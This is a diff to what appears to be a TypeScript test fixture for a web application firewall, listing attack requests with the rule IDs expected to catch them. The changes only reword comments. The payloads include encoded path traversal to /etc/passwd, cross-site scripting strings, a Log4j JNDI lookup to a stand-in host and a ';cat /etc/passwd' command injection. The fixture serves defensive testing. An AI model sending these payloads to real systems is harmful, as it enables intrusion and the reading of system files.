@@ -1,7 +1,7 @@
 /** The headers of a browser. */
 export const BROWSER = 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36';
 
-/** A request as bytes. */
+/** Returns a request as bytes. */
 export const get = (path: string, ...lines: string[]) =>
   [`GET ${path} HTTP/1.1`, 'Host: 127.0.0.1', BROWSER, 'Accept: */*', 'Connection: close', ...lines, '', ''].join(
     '\r\n',
@@ -9,7 +9,10 @@ export const get = (path: string, ...lines: string[]) =>
 
 export const encoded = (text: string) => encodeURIComponent(text);
 
-/** Requests, and the rules that may decide: rule sets differ in which rule of a family scores most. */
+/**
+ * Requests, each with a pattern of rules that may match, because rule sets differ in which rule of a family scores
+ * most.
+ */
 export const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
   ['traversal, encoded', get('/%2e%2e%2f%2e%2e%2fetc/passwd'), /^930/],
   ['traversal, encoded twice', get('/a?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'), /^930/],
@@ -22,12 +25,12 @@ export const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
   ['a script', get(`/?q=${encoded('<script>alert(1)</script>')}`), /^941/],
   ['an event handler', get(`/?q=${encoded('<img src=x onerror=alert(1)>')}`), /^941/],
   ['log4j in a query', get(`/?x=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
-  // Debian's core rule set looks for it only in arguments and cookies.
+  // Debian's core rule set detects this only in arguments and cookies.
   ['log4j in a cookie', get('/', `Cookie: a=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
   ['a command', get(`/?c=${encoded(';cat /etc/passwd')}`), /^93[02]/],
 ];
 
-/** Requests that are no attack by themselves: they are logged, and get the same response as any other. */
+/** Requests that are no attack on their own: they are logged, and get the same response as any other. */
 export const SCANS: readonly (readonly [string, string, RegExp])[] = [
   ['sqlmap', get('/').replace(BROWSER, 'User-Agent: sqlmap/1.7'), /^913/],
   ['nikto', get('/').replace(BROWSER, 'User-Agent: Mozilla/5.00 (Nikto/2.1.6)'), /^913/],
